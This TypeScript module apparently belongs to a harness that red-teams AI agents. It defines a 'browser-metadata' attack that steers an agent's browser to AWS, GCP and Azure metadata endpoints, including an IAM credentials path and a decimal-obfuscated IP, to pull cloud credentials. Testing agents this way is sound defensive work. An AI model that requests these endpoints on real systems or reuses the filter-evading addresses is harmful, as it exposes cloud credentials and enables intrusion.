import type { Attack } from "../../Attack.ts";
import { onBrowser } from "../../inside/onBrowser.ts";

export const browserMetadata: Attack = {
  name: "browser-metadata",
  group: "network",
  tries: "have the bot's browser ask the cloud's metadata services for credentials",
  run: (attacker) =>
    onBrowser(attacker, [
      "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      "http://metadata.google.internal/computeMetadata/v1/",
      "http://2852039166/latest/meta-data/",
      "http://168.63.129.16/metadata/instance",
      "http://[fd00:ec2::254]/latest/meta-data/",
    ]),
};
